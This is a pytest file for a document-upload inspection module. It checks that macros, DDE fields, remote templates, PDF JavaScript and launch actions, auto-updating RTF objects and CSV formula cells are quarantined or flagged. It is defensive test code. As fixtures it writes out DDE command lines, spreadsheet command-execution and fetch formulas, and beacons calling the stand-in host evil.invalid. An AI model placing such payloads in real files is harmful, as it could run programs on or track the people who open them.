"""What runs, fetches or hides inside a file: kept apart, or told."""

from io import BytesIO

from app.documents.check import inspect
from app.documents.facts import Flag
from tests.app.documents.making import a_docx, a_pdf, a_pptx, an_eml, an_xlsx, swapped, with_part
from tests.app.documents.saying import flags, quarantined, refused

DOCUMENT = "word/document.xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def macro_part(package: bytes) -> bytes:
    types = swapped(
        "</Types>", '<Override PartName="/word/odd.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return with_part(with_part(package, "word/odd.bin", b"macro"), "[Content_Types].xml", None, after=types)


def test_macros_are_kept_apart_whatever_their_part_is_called() -> None:
    quarantined(macro_part(a_docx("Words")), "a.docx", "macros")


def test_a_quarantined_file_keeps_its_type_so_that_it_can_be_listed() -> None:
    inspection = inspect(macro_part(a_docx("Words")), "a.docx")
    assert inspection.extension == "docx"
    assert [warning.flag for warning in inspection.warnings] == [Flag.ACTIVE_CONTENT]


def test_a_macro_enabled_ending_is_kept_apart() -> None:
    quarantined(an_xlsx(), "tracker.xlsm", "as .xlsx")


def relation(package: bytes, kind: str, target: str) -> bytes:
    new = f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return with_part(package, "word/_rels/document.xml.rels", None, after=swapped("</Relationships>", new))


def test_a_template_from_the_internet_is_kept_apart_and_one_from_a_drive_is_ordinary() -> None:
    quarantined(relation(a_docx("Words"), "attachedTemplate", "https://evil.invalid/t.dotm"), "a.docx", "template")
    assert flags(relation(a_docx("Words"), "attachedTemplate", "file:///C:/Templates/report.dotx"), "a.docx") == set()


def test_a_picture_from_the_internet_is_a_warning_and_a_link_is_none() -> None:
    assert flags(relation(a_docx("Words"), "image", "https://evil.invalid/beacon.png"), "a.docx") == {
        Flag.EXTERNAL_REFERENCE
    }
    assert flags(relation(a_docx("Words"), "hyperlink", "https://www.cqc.org.uk/"), "a.docx") == set()


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{edge}"/></w:r>' for edge in ("begin", "end"))
    return with_part(a_docx("Words"), DOCUMENT, None, after=swapped("<w:p>", f"<w:p>{begin}{runs}{end}"))


def test_a_field_that_starts_a_program_is_kept_apart_even_when_cut_into_pieces() -> None:
    quarantined(field(" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; "), "a.docx", "DDE")
    quarantined(field(" DD", "EAU", "TO c:\\\\cmd.exe "), "a.docx", "DDE")
    quarantined(field(' INCLUDETEXT "https://evil.invalid/x.docx" '), "a.docx", "fetches")
    assert flags(field(" PAGE "), "a.docx") == set()


def test_comments_tracked_changes_and_hidden_text_are_warnings() -> None:
    deleted = '<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>gone</w:delText></w:r></w:del></w:p><w:p>'
    assert flags(with_part(a_docx("Words"), DOCUMENT, None, after=swapped("<w:p>", deleted)), "a.docx") == {
        Flag.HIDDEN_CONTENT
    }

    def hide(document: object) -> None:
        document.add_paragraph().add_run("secret").font.hidden = True  # type: ignore[attr-defined]

    def comment(document: object) -> None:
        run = document.paragraphs[0].runs[0]  # type: ignore[attr-defined]
        document.add_comment(run, "Is this so?", "Ann")  # type: ignore[attr-defined]

    assert flags(a_docx("Words", change=hide), "a.docx") == {Flag.HIDDEN_CONTENT}
    assert flags(a_docx("Words", change=comment), "a.docx") == {Flag.HIDDEN_CONTENT}


def test_white_text_on_white_is_a_warning_and_in_a_coloured_cell_is_ordinary() -> None:
    from docx.shared import RGBColor

    def white(document: object) -> None:
        document.add_paragraph().add_run("secret").font.color.rgb = RGBColor(255, 255, 255)  # type: ignore[attr-defined]

    def header_cell(document: object) -> None:
        cell = document.add_table(1, 1).cell(0, 0)  # type: ignore[attr-defined]
        cell.paragraphs[0].add_run("Heading").font.color.rgb = RGBColor(255, 255, 255)

    assert flags(a_docx("Words", change=white), "a.docx") == {Flag.HIDDEN_CONTENT}
    assert flags(a_docx("Words", change=header_cell), "a.docx") == set()


def test_hidden_sheets_columns_and_rows_are_warnings_when_they_hold_something() -> None:
    rows = [["Ref", "Name"], ["E1", "A Person"]]

    def hide_sheet(book: object) -> None:
        book["Raw"].sheet_state = "veryHidden"  # type: ignore[index]

    def hide_column(book: object) -> None:
        book["List"].column_dimensions["B"].hidden = True  # type: ignore[index]

    def hide_empty_column(book: object) -> None:
        book["List"].column_dimensions["H"].hidden = True  # type: ignore[index]

    def hide_row(book: object) -> None:
        book["List"].row_dimensions[2].hidden = True  # type: ignore[index]

    (warning,) = inspect(an_xlsx({"List": rows, "Raw": rows}, hide_sheet), "a.xlsx").warnings
    assert (warning.flag, warning.place) == (Flag.HIDDEN_CONTENT, "sheet “Raw”")
    assert flags(an_xlsx({"List": rows}, hide_column), "a.xlsx") == {Flag.HIDDEN_CONTENT}
    assert flags(an_xlsx({"List": rows}, hide_row), "a.xlsx") == {Flag.HIDDEN_CONTENT}
    assert flags(an_xlsx({"List": rows}, hide_empty_column), "a.xlsx") == set()


def test_a_formula_that_starts_a_program_is_kept_apart_and_one_that_fetches_is_a_warning() -> None:
    quarantined(an_xlsx({"List": [["a"], ["=cmd|'/C calc'!A0"]]}), "a.xlsx", "DDE")
    assert flags(an_xlsx({"List": [["a"], ['=WEBSERVICE("http://evil.invalid/")']]}), "a.xlsx") == {
        Flag.EXTERNAL_REFERENCE
    }
    assert flags(an_xlsx({"List": [["a"], ["=SUM(A1:A9)"]]}), "a.xlsx") == set()


def test_speaker_notes_are_a_warning() -> None:
    def note(deck: object) -> None:
        deck.slides[0].notes_slide.notes_text_frame.text = "Don't say this"  # type: ignore[attr-defined]

    assert flags(a_pptx(("Title", "Body"), change=note), "a.pptx") == {Flag.HIDDEN_CONTENT}


def test_scripts_and_programs_in_pdfs_are_kept_apart() -> None:
    plain = a_pdf("Words")
    script = plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S /#4aavaScript /JS (x)>>")
    assert script != plain
    quarantined(script, "a.pdf", "script")
    quarantined(
        plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction <</S /Launch /F (cmd.exe)>>"), "a.pdf", "program"
    )


def test_an_attached_program_keeps_an_e_mail_apart_and_a_beacon_is_a_warning() -> None:
    quarantined(an_eml(attached={"x.exe": b"MZ"}), "m.eml", "program")
    quarantined(an_eml(attached={"x.docx": macro_part(a_docx("Words"))}), "m.eml", "macros")
    # It is sent with the e-mail, whatever is decided on the same file by itself.
    assert flags(an_eml(attached={"x.docx": a_docx("Words")}), "m.eml") == {Flag.EMBEDDED_FILES}
    assert flags(an_eml(html="<p>Hello</p><img src=http://evil.invalid/b.png>"), "m.eml") == {Flag.EXTERNAL_REFERENCE}


def test_an_object_that_starts_by_itself_keeps_rich_text_apart() -> None:
    quarantined(rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}}", "a.rtf", "starts by itself")
    refused(b"{\\rtf1" + b"{" * 50_000 + b"}" * 50_000 + b"}", "a.rtf", "nested too deeply")


def test_cells_that_begin_like_formulas_are_a_warning_and_negative_numbers_are_not() -> None:
    assert flags(b'ref,title\r\n1,"=HYPERLINK(""http://evil.invalid"")"\r\n', "a.csv") == {Flag.ACTIVE_CONTENT}
    assert flags(b"ref,change\r\n1,-2\r\n2,+3.5\r\n3,-\r\n", "a.csv") == set()


def test_a_picture_that_says_where_it_was_taken_is_a_warning() -> None:
    from PIL import Image

    buffer = BytesIO()
    picture = Image.new("RGB", (4, 4))
    exif = picture.getexif()
    exif.get_ifd(0x8825)[1] = "N"
    picture.save(buffer, "JPEG", exif=exif)
    assert flags(buffer.getvalue(), "a.jpg") == {Flag.HIDDEN_CONTENT}


def test_a_file_embedded_in_another_is_a_warning_and_one_with_macros_keeps_the_host_apart() -> None:
    def embedding(inner: bytes) -> bytes:
        new = f'<Relationship Id="rIdX" Type="{RELATIONS}/package" Target="embeddings/inner.docx"/></Relationships>'
        host = with_part(a_docx("Words"), "word/_rels/document.xml.rels", None, after=swapped("</Relationships>", new))
        return with_part(host, "word/embeddings/inner.docx", inner)

    assert flags(embedding(a_docx("Inner")), "a.docx") == {Flag.EMBEDDED_FILES}
    quarantined(embedding(macro_part(a_docx("Inner"))), "a.docx", "macros")
    quarantined(embedding(embedding(embedding(a_docx("Inner")))), "a.docx", "within files")
